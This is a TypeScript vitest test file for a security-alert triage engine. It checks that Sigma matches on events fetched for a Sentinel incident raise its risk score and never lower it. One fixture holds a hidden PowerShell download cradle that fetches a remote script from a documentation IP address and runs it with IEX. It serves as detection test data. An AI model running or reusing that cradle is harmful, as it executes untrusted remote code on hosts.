import { describe, expect, it } from 'vitest';
import type { Alert, Enrichment, FetchedSourceEvent, SourceEvent } from '@soc/contracts';
import { loadTriageKnowledge, triageAlert } from '../src/engine.ts';
import { triageTuned } from '../src/tuning.ts';
import { loadWeights } from '../src/weights.ts';

// A Sentinel incident carries no raw event; enrichment may fetch its host's events near the alert's time
// (enrichment.sourceEvents, each citing the audited query that fetched it). They may lift the alert, never lower it.

const weights = loadWeights();
const knowledge = loadTriageKnowledge();
const QUERY = 'kqa-000000000042';
const sysmon = (eventId: number, category: string, fields: Record<string, string>): SourceEvent => ({
  logsources: [{ product: 'windows', category, service: 'sysmon' }, { product: 'windows', service: 'sysmon' }],
  fields: { EventID: eventId, Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: 'ws-01.contoso.com', ...fields },
});
const fetched = (e: SourceEvent, row = 0): FetchedSourceEvent => ({ ...e, fetchedBy: QUERY, pointer: `/tables/0/rows/${row}` });

// An encoded PowerShell download cradle, as Atomic Red Team runs it.
const cradle = sysmon(1, 'process_creation', {
  Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  OriginalFileName: 'PowerShell.EXE',
  CommandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  User: 'CONTOSO\\alice',
});
// Windows' own session manager opening Explorer: an event no Sigma rule of level medium or above matches.
const routineAccess = sysmon(10, 'process_access', {
  SourceImage: 'C:\\Windows\\system32\\svchost.exe',
  TargetImage: 'C:\\Windows\\explorer.exe',
  GrantedAccess: '0x1000',
  CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e',
});

function incident(severity: Alert['severity'], sourceEvents?: SourceEvent[]): Alert {
  return {
    schemaVersion: 1,
    alertId: `alt-inc-${severity}`,
    tenantId: 'contoso',
    source: { name: 'sentinel', product: 'Microsoft Sentinel', vendorAlertId: 'inc-1' },
    title: 'Unusual activity on ws-01',
    description: '',
    severity,
    status: 'new',
    detectedAt: '2026-12-07T09:59:00.000Z',
    attack: [],
    entities: [{ id: 'host:ws-01', type: 'host', value: 'ws-01', fqdn: 'ws-01.contoso.com', origin: 'source' }],
    labels: [],
    ...(sourceEvents === undefined ? {} : { sourceEvents }),
  };
}
const enrichmentWith = (sourceEvents?: FetchedSourceEvent[]): Enrichment => ({ facts: [], missing: [], ...(sourceEvents ? { sourceEvents } : {}) });

describe('triage reads the events enrichment fetched for an alert without its own', () => {
  it('a Sentinel alert with no raw event gets the Sigma factor of a fetched event, citing the query that fetched it', () => {
    const without = triageAlert(incident('low'), enrichmentWith(), weights, knowledge);
    expect(without.risk.factors.filter((f) => f.name.startsWith('sigma-'))).toEqual([]);
    expect(without.verdict.class).not.toBe('true-positive');

    const t = triageAlert(incident('low'), enrichmentWith([fetched(routineAccess, 0), fetched(cradle, 1)]), weights, knowledge);
    const sigma = t.risk.factors.filter((f) => f.name.startsWith('sigma-'));
    expect(sigma.length).toBeGreaterThan(0);
    expect(sigma[0]?.evidence).toMatch(new RegExp(`^Sigma rule «.+» \\(.+\\) by .+ on an event of the host fetched by query ${QUERY}`, 'u'));
    expect(t.risk.factors.find((f) => f.name === 'event-evidence')?.evidence).toMatch(new RegExp(`^The raw event \\(.*fetched by query ${QUERY}\\) is evidence of its own — Sigma «.+» \\((high|critical)\\) matched it`, 'u'));
    expect(t.verdict.class).toBe('true-positive');
    // The same through the tuned path (a tenant with tuning).
    const tuned = triageTuned(incident('low'), enrichmentWith([fetched(cradle)]), weights, knowledge, { tenantId: 'contoso', version: 1, sha256: 'a'.repeat(64), previousSha256: null, changedBy: 'a.khan@contoso.com', changedAt: '2026-12-01T00:00:00.000Z', entries: [] }, new Date('2026-12-07T10:00:00Z'));
    expect(tuned.risk.factors.some((f) => f.name.startsWith('sigma-') && f.evidence.includes(QUERY))).toBe(true);
  });

  it('fetched events never lower an alert: nothing suspicious among them is not the alert\'s event showing nothing', () => {
    // The same event as the alert's own lowers a high-severity alert …
    const own = triageAlert(incident('high', [routineAccess]), enrichmentWith(), weights, knowledge);
    expect(own.risk.factors.map((f) => f.name)).toContain('event-shows-nothing-suspicious');
    // … fetched, it does not: the alert scores as without any event.
    const withFetched = triageAlert(incident('high'), enrichmentWith([fetched(routineAccess)]), weights, knowledge);
    const withNone = triageAlert(incident('high'), enrichmentWith(), weights, knowledge);
    expect(withFetched.risk.factors.map((f) => f.name)).not.toContain('event-shows-nothing-suspicious');
    expect(withFetched.risk.score).toBe(withNone.risk.score);
    expect(withFetched.verdict.class).toBe(withNone.verdict.class);
  });

  it('an alert that carries its own event is read by it alone; fetched events are not mixed in', () => {
    const t = triageAlert(incident('low', [routineAccess]), enrichmentWith([fetched(cradle)]), weights, knowledge);
    expect(t.risk.factors.filter((f) => f.name.startsWith('sigma-') && /high|critical/u.test(f.name))).toEqual([]);
    expect(t.risk.factors.some((f) => f.evidence.includes(QUERY))).toBe(false);
  });
});
